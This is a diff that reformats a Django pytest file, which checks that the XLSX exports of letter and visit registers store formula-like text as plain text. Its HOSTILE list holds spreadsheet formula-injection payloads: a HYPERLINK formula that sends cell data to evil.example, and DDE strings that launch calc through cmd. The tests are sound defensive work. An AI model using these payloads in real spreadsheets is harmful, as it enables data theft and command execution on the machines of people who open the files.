@@ -18,13 +18,21 @@ from voters import services
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _sheet_xml(content: bytes) -> str:
     with zipfile.ZipFile(BytesIO(content)) as archive:
-        return "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))
+        return "".join(
+            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
+        )
 
 
 def test_text_that_starts_like_a_formula_is_written_as_text_and_numbers_and_dates_stay_typed():
@@ -43,8 +51,14 @@ def test_text_that_starts_like_a_formula_is_written_as_text_and_numbers_and_date
 def test_the_letter_and_visit_registers_export_no_formula(login, staff_a, province):
     today = timezone.localdate()
     for n, text in enumerate(HOSTILE):
-        services.letter_register(handling_body=province.standing, number=f"{n}/KN", received_on=today - timedelta(days=1),
-                                 channel="post", kind="recommendation", content=text)
+        services.letter_register(
+            handling_body=province.standing,
+            number=f"{n}/KN",
+            received_on=today - timedelta(days=1),
+            channel="post",
+            kind="recommendation",
+            content=text,
+        )
     reception = ReceptionDayFactory(host_body=province.standing)
     for text in HOSTILE:
         VisitFactory(reception=reception, citizens=text)
@@ -53,5 +67,12 @@ def test_the_letter_and_visit_registers_export_no_formula(login, staff_a, provin
         response = export_xlsx(client, url)
         assert response.status_code == 200
         assert "<f>" not in _sheet_xml(response.content), url
-        values = {c.value for row in load_workbook(BytesIO(response.content)).active.iter_rows(min_row=2) for c in row}
-        assert set(HOSTILE) <= {v.replace("\r\n", "\r") if isinstance(v, str) else v for v in values} or set(HOSTILE) & values
+        values = {
+            c.value
+            for row in load_workbook(BytesIO(response.content)).active.iter_rows(min_row=2)
+            for c in row
+        }
+        assert (
+            set(HOSTILE) <= {v.replace("\r\n", "\r") if isinstance(v, str) else v for v in values}
+            or set(HOSTILE) & values
+        )
